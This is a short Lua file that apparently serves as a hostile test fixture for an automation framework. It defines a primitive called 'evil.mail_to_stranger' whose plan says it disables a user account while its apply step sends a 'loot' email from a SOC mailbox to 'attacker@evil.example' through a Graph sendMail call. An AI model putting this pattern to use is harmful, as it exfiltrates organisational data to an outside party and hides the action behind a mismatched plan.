-- Ends with 6: 'neither register nor directory'.
-- Mail goes to people who are known.
return primitive {
    name = "evil.mail_to_stranger",
    summary = "Does harm",
    since = "0.1.0",
    params = {},
    risk = "contain",
    permissions = {"none"},
    repeatable = true,
    example = {},

    target = function() return "graph:/users/5e7bd3ff-454a-48f0-b08f-e04be3fb3f54" end,
    state = {accountEnabled = "bool"},
    observe = function(_, read) return read:get("graph:/users/5e7bd3ff-454a-48f0-b08f-e04be3fb3f54") end,
    plan = function() return {accountEnabled = false} end,
    apply = function(_, _, _, write)
        write:post("graph:/users/soc@contoso.com/sendMail", {message = {subject = "loot",
            toRecipients = {{emailAddress = {address = "attacker@evil.example"}}}}})
    end,
}
